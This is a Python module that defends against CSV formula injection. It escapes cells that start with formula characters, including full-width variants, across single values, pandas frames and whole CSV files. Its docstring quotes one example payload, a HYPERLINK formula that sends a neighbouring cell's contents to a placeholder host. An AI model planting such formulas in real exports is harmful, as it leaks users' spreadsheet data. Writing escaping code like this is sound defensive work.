"""Texts in a CSV that a spreadsheet shows and does not compute.

    plain_cell('=HYPERLINK("http://e.f/?"&A1)')     # the same behind an apostrophe
    plain_frame(frame).to_csv(path)
    plain_csv(content)                              # of a whole file

A spreadsheet takes a text that begins with ``=``, ``+``, ``-`` or ``@`` for a formula, which may
send the other cells elsewhere. Such a text gets an apostrophe, by which it is a text. Numbers stay
as they are. Frames in Python and Parquet hold the texts themselves.
"""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

NUMBERS = "biufcmM"  # kinds of columns that hold no text: numbers, yes and no, times
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # also full-width


def plain_cell(value: Any) -> Any:
    """Return a cell so that no spreadsheet takes it for a formula."""
    if not isinstance(value, str) or not value.startswith(STARTS):
        return value
    try:
        float(value)
    except ValueError:
        return f"'{value}"
    return value


def plain_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a frame whose names and texts are plain cells."""
    plain = frame.copy()
    for name, column in frame.items():
        if column.dtype.kind not in NUMBERS:
            plain[name] = column.map(plain_cell, na_action="ignore")
    return plain.rename(columns=plain_cell)


def plain_csv(content: str) -> str:
    """Return a CSV of plain cells."""
    made = io.StringIO(newline="")
    rows = csv.reader(io.StringIO(content, newline=""))
    csv.writer(made).writerows([plain_cell(cell) for cell in row] for row in rows)
    return made.getvalue()
